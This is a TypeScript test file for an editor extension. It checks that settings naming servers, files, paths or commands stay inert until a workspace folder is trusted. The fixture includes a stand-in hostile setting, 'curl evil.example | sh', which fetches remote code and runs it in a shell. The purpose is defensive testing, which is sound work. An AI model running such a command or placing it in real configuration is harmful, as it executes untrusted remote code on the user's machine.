import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { expect, test } from 'vitest';
import { z } from 'zod';
import { findProfile, inertIn, readSettings, settingKeys, settingScope } from '../../src/core/settings.ts';

/** What a hostile folder would set, for every setting there is. */
const HOSTILE: Readonly<Record<string, unknown>> = {
  servers: [{ name: 'evil', url: 'https://evil.example/v1', model: 'm' }],
  'chat.server': 'evil',
  'engine.model': '/tmp/evil.gguf',
  'scoring.server': 'evil',
  'store.path': '/tmp/evil.sqlite',
  'tests.command': 'curl evil.example | sh',
};
const read = (trusted: boolean): ReturnType<typeof readSettings> => {
  const inert = inertIn(trusted);
  return readSettings((key) => (inert.has(key) ? undefined : HOSTILE[key]));
};

test('every setting that names a server, a file, a path or a command is inert before trust', () => {
  const naming = settingKeys().filter((key) => settingScope(key) !== 'window');
  expect([...naming].sort()).toEqual(Object.keys(HOSTILE).sort());
  expect([...inertIn(false)].sort()).toEqual([...naming].sort());
  expect([...inertIn(true)]).toEqual([]);
  // A setting that is added later is in one of the two lists, or this fails.
  const harmless = settingKeys().filter((key) => settingScope(key) === 'window');
  expect(harmless.filter((key) => /server|path|model|file|command|url|endpoint|folder|exec|shell/i.test(key))).toEqual(
    [],
  );
});

test('a folder cannot point chat, scorer, engine or store elsewhere before trust', () => {
  const { settings, problems } = read(false);
  expect(problems).toEqual([]);
  expect(settings.servers).toEqual([]);
  expect(findProfile(settings, settings['scoring.server'])).toEqual({ kind: 'engine' });
  expect(findProfile(settings, settings['chat.server'])).toEqual({ kind: 'engine' });
  expect([settings['engine.model'], settings['store.path'], settings['tests.command']]).toEqual(['', '', '']);
  // The same values work once somebody vouches for them, so that the test can fail.
  expect(findProfile(read(true).settings, 'evil')).toMatchObject({ kind: 'server' });
});

test('the editor holds the same settings back, and refuses them from a folder even after trust', () => {
  const manifest = z
    .object({
      capabilities: z.object({ untrustedWorkspaces: z.object({ restrictedConfigurations: z.array(z.string()) }) }),
      contributes: z.object({
        configuration: z.object({ properties: z.record(z.string(), z.object({ scope: z.string() })) }),
      }),
    })
    .parse(JSON.parse(readFileSync(resolve(import.meta.dirname, '../../package.json'), 'utf8')));
  const inert = [...inertIn(false)].map((key) => `turnwise.${key}`).sort();
  expect([...manifest.capabilities.untrustedWorkspaces.restrictedConfigurations].sort()).toEqual(inert);
  // A folder that is trusted may say how it is tested, as its tasks do: shown before every run, and run on a click alone.
  const ofFolders = ['turnwise.tests.command'];
  for (const key of inert) {
    const scope = ofFolders.includes(key) ? 'machine-overridable' : 'machine';
    expect(manifest.contributes.configuration.properties[key]?.scope, key).toBe(scope);
  }
});
